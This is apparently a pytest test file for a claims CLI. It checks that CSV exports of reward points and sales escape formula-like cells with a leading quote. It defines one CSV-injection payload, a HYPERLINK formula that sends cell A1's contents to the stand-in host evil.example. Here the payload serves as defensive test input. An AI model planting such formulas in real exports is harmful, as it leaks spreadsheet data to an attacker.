"""Formula-like cells in every CSV the command line and the windows write (issue 16, point
8): a name such as ``=HYPERLINK(…)`` on the platform comes out with a leading quote, so a
spreadsheet shows it as text; plain numbers, negative ones too, stay as they are."""

from __future__ import annotations

import csv
import io
import json

import pytest

from claimdesk.cli import main
from tests.contract.test_sandbox_claret import post_sales, seed_body, seed_row
from tests.ui.test_reward_points_cli import START, profile  # noqa: F401 - the fixture

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_reward_points_list_csv_guards_formula_cells(
    profile: str,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
) -> None:
    code = main(["reward-points", "create", "--profile", profile, "--promotion", "4",
                 "--reference", EVIL, "--quantity", "2", "--points", "5",
                 "--date-from", "2026-01-01", "--date-to", "2026-12-31"])  # fmt: skip
    out, err = capsys.readouterr()
    assert code == 0, err
    assert json.loads(out)["reference"] == EVIL  # the platform holds it as typed
    code = main(["reward-points", "list", "--profile", profile, "--promotion", "4"])
    out, _err = capsys.readouterr()
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    [row] = [r for r in rows if "HYPERLINK" in r["reference"]]
    assert row["reference"] == "'" + EVIL


def test_sales_csv_guards_formula_cells(
    profile: str,  # noqa: F811
    sandbox: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    body = seed_body(
        seed_row(item_name=EVIL, sell_date=START, quantity=3),
        create_missing_item_customer_group=1,
    )
    assert post_sales(sandbox, body).status_code == 201
    code = main(["sales", "--profile", "Plan", "--sale-type", "History", "--start", START,
                 "--days", "1"])  # fmt: skip
    out, err = capsys.readouterr()
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    [row] = [r for r in rows if "HYPERLINK" in r["item_name"]]
    assert row["item_name"] == "'" + EVIL
    assert not any(cell.startswith(("=", "@")) for r in rows for cell in r.values() if cell)
